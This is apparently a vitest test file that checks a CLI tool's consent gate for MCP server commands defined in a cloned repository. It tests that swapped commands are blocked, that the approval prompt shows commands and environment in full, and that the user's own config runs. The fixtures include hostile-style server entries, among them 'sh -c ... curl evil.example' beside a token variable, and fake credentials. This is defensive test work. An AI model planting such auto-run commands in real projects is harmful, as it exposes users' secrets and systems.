// A cloned repository must not run commands by itself.
import * as fs from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { colibri } from '../support/command-line.js';
import { eventually } from '../support/process-list.js';
import { freshPlace, serve } from '../support/serve.js';
import { hostile } from './consent.shared.js';

test('another command under the same name is not started: what was approved goes on', async () => {
  const place = freshPlace();
  const { dir, marker, file } = hostile(place);
  const env = { COLIBRI_PROJECT_DIR: dir };
  await colibri(place, ['switchboard', 'approve', '--yes'], { env });
  const other = `${marker}-other`;
  fs.writeFileSync(file, JSON.stringify({ mcpServers: { evil: { command: 'sh', args: ['-c', `touch ${other}`] } } }));
  const peer = serve(place, { env });
  await peer.initialize();
  await peer.until(() => peer.stderr.includes('colibri switchboard approve'));
  await eventually('what was approved is started', () => fs.existsSync(marker));
  await new Promise((resolve) => setTimeout(resolve, 800));
  await peer.end();
  expect(fs.existsSync(other)).toBe(false);
});

test('what is agreed to is shown in full, and with all of the environment that it asks for', async () => {
  const place = freshPlace();
  const { dir, file } = hostile(place);
  const env = { COLIBRI_PROJECT_DIR: dir };
  const token = `ghp_${'a1B2'.repeat(9)}`;
  const servers = {
    all: {
      command: 'node',
      args: ['x.js', '--api-key', 'k3y-of-mine'],
      env: { API_TOKEN: token, MODE: 'fast' },
      inheritEnv: 'all',
    },
    some: { command: 'node', inheritEnv: ['AWS_PROFILE'] },
    sly: { command: 'sh', args: ['-c', 'TOKEN=x; curl evil.example'], env: { TOKEN: `\${MY_TOKEN:-}` } },
    far: { url: `https://u:pa55word@far.example/mcp?token=${token}`, headers: { Authorization: `Bearer ${token}` } },
  };
  fs.writeFileSync(file, JSON.stringify({ mcpServers: servers }));
  const shown = (await colibri(place, ['switchboard', 'approve', '--yes'], { env })).stderr;
  expect(shown).toContain('  all: node x.js --api-key k3y-of-mine\n');
  expect(shown).toContain(
    `    API_TOKEN=${token}\n    MODE=fast\n    inheritEnv: "all": it gets your whole environment`,
  );
  expect(shown).toContain('    inheritEnv: it gets these of your environment: AWS_PROFILE\n');
  expect(shown).toContain('  sly: sh -c TOKEN=x; curl evil.example\n');
  expect(shown).toContain(`    TOKEN=\${MY_TOKEN:-}\n`);
  expect(shown).toContain(
    `  far: https://u:pa55word@far.example/mcp?token=${token}\n    Authorization: Bearer [redacted]\n`,
  );
  const checked = await colibri(place, ['switchboard', 'check'], { env });
  expect(checked.stdout).toContain('node x.js --api-key k3y-of-mine');
});

test("the user's own file needs no approval, and counts beside a project's that was not approved", async () => {
  const place = freshPlace();
  const own = join(place.home, 'config', 'colibri', 'switchboard.json');
  fs.mkdirSync(join(place.home, 'config', 'colibri'), { recursive: true });
  const mark = join(place.dir, 'own');
  fs.writeFileSync(own, JSON.stringify({ mcpServers: { mine: { command: 'sh', args: ['-c', `touch ${mark}`] } } }));
  const peer = serve(place);
  await peer.initialize();
  await eventually('it is started', () => fs.existsSync(mark));
  await peer.end();
  const { dir, marker } = hostile(place);
  fs.rmSync(mark);
  const inProject = serve(place, { env: { COLIBRI_PROJECT_DIR: dir } });
  await inProject.initialize();
  await inProject.until(() => inProject.stderr.includes('colibri switchboard approve'));
  await eventually("the user's own is started", () => fs.existsSync(mark));
  await inProject.end();
  expect(fs.existsSync(marker)).toBe(false);
});
